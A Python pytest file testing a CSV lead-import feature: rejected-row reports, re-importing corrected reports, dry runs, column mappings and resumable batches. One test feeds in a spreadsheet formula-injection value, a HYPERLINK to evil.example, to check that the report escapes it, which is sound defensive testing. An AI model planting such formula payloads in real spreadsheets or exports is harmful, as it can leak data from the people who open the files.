from __future__ import annotations

import csv
from pathlib import Path

import orjson
import pytest

from nurture.db.engine import Database
from nurture.db.metadata import metadata
from nurture.errors import FileUnreadable, InvalidState
from nurture.journey.intake.import_file import import_file
from tests.journey.intake.lead_files import (
    NOW,
    custody_of,
    import_leads,
    lead_states,
    plain_context,
    row,
    rows_of,
    write_file,
)


def test_bad_rows_go_into_the_report_and_are_not_imported(db: Database, tmp_path: Path) -> None:
    path = write_file(tmp_path, [row(), row("not an address", Lead_ID="9"), row("bo@firm")])
    done = import_file(plain_context(db, tmp_path), path, NOW)
    assert (done.rows, done.new, done.rejected) == (3, 1, 2)
    assert done.report_path == path.with_name(f"{path.stem}.bad-rows.csv")
    with done.report_path.open(encoding="utf-8-sig") as file:
        report = list(csv.DictReader(file))
    assert [(each["line"], each["Email"]) for each in report] == [("3", "not an address"), ("4", "bo@firm")]
    assert rows_of(db, "SELECT normalized FROM address") == [("ann@example.com",)]
    assert rows_of(db, "SELECT rows, rejected FROM import_file") == [(3, 2)]


def test_a_corrected_report_can_be_imported(db: Database, tmp_path: Path) -> None:
    ctx = plain_context(db, tmp_path)
    done = import_file(ctx, write_file(tmp_path, [row(), row("bo at example.com")]), NOW)
    assert done.report_path is not None
    corrected = done.report_path.read_text("utf-8-sig").replace("bo at", "bo@").replace("bo@ ", "bo@")
    done.report_path.write_text(corrected, "utf-8")
    assert import_file(ctx, done.report_path, NOW).new == 1
    assert rows_of(db, "SELECT count(*) FROM lead") == [(2,)]


def test_formulas_in_bad_rows_are_escaped_in_the_report_and_imported_unescaped(db: Database, tmp_path: Path) -> None:
    ctx = plain_context(db, tmp_path)
    phone, name = "+49 40 123456", '=HYPERLINK("http://evil.example/?x=","click")'
    path = write_file(tmp_path, [row("not an address", Company=name, First_Name="'@SUM(1)", Job_Title=phone)])
    done = import_file(ctx, path, NOW)
    assert done.report_path is not None
    with done.report_path.open(encoding="utf-8-sig", newline="") as file:
        (bad,) = csv.DictReader(file)
    assert (bad["Company"], bad["First Name"], bad["Job Title"]) == (f"'{name}", "''@SUM(1)", phone)
    corrected = done.report_path.read_text("utf-8-sig").replace("not an address", "bo@example.com")
    done.report_path.write_text(corrected, "utf-8")
    assert import_file(ctx, done.report_path, NOW).new == 1
    ((fields,),) = rows_of(db, "SELECT fields FROM lead")
    fields = fields if isinstance(fields, dict) else orjson.loads(fields)
    assert (fields["company"], fields["first_name"], fields["title"]) == (name, "'@SUM(1)", phone)


def test_a_dry_run_reports_the_same_and_writes_nothing(db: Database, tmp_path: Path) -> None:
    ctx = plain_context(db, tmp_path, batch=2)
    path = write_file(
        tmp_path,
        [
            row(Lead_ID="1"),
            row("bo@example.com"),
            row(Company="Firm"),
            row("x"),
            row("", Lead_ID="3"),
            row("cy@example.com", Opted_Out="yes", Registered_On="2026-01-01"),
        ],
    )
    dry = import_file(ctx, path, NOW, dry_run=True)
    assert all(rows_of(db, f"SELECT count(*) FROM {table.name}") == [(0,)] for table in metadata.sorted_tables)
    assert import_file(ctx, path, NOW) == dry
    assert (dry.new, dry.updated, dry.rejected, dry.signals) == (4, 1, 1, 1)


def test_mapped_and_unmapped_columns_are_reported(db: Database, tmp_path: Path) -> None:
    done = import_leads(plain_context(db, tmp_path), tmp_path, row())
    assert done.source == "crm"
    assert done.mapped["Email"] == "email"
    assert done.unmapped == ("Shoe Size",)


def test_a_mapping_names_columns_and_source(db: Database, tmp_path: Path) -> None:
    mapping = tmp_path / "map.yaml"
    mapping.write_text(
        "source: olist\ncolumns: {mql: external_id}\ntemplates: {email: '{mql}@leads.example'}\n"
        "constants: {consent_basis: consent}\n"
    )
    path = tmp_path / "mql.csv"
    path.write_text("mql,origin\nabc,social\n")
    import_file(plain_context(db, tmp_path), path, NOW, mapping=mapping)
    assert rows_of(db, "SELECT source, external_id FROM identity") == [("olist", "abc")]
    assert custody_of(db) == [("intake", "import")]


def test_a_folder_given_as_a_file_is_refused(db: Database, tmp_path: Path) -> None:
    with pytest.raises(FileUnreadable):
        import_file(plain_context(db, tmp_path), tmp_path, NOW)


def test_the_report_may_not_overwrite_the_file(db: Database, tmp_path: Path) -> None:
    path = write_file(tmp_path, [row("bad")])
    with pytest.raises(InvalidState, match="another file"):
        import_file(plain_context(db, tmp_path), path, NOW, report=path)


def test_a_failure_reports_how_many_rows_were_imported(db: Database, tmp_path: Path) -> None:
    path = write_file(tmp_path, [row("a@example.com"), row("b@example.com"), row("bad"), row("c@example.com")])
    with pytest.raises(FileUnreadable, match=r"2 rows were imported\. Correct the file and import it again"):
        import_file(plain_context(db, tmp_path, batch=2), path, NOW, report=tmp_path)
    assert rows_of(db, "SELECT count(*) FROM lead") == [(2,)]


class Stopped(Exception):
    pass


def test_an_import_that_died_between_batches_can_be_repeated(db: Database, tmp_path: Path) -> None:
    ctx = plain_context(db, tmp_path, batch=3)
    path = write_file(
        tmp_path, [row(f"p{n}@example.com", Lead_ID=str(n), Registered_On="2026-01-01") for n in range(10)]
    )

    def stop(read: int, size: int) -> None:
        assert 0 < read <= size
        if rows_of(db, "SELECT count(*) FROM lead") == [(6,)]:
            raise Stopped

    with pytest.raises(Stopped):
        import_file(ctx, path, NOW, progress=stop)
    assert rows_of(db, "SELECT count(*) FROM lead") == [(6,)]
    done = import_file(ctx, path, NOW)
    assert (done.new, done.unchanged, done.signals) == (4, 6, 4)
    assert len(lead_states(db)) == 10
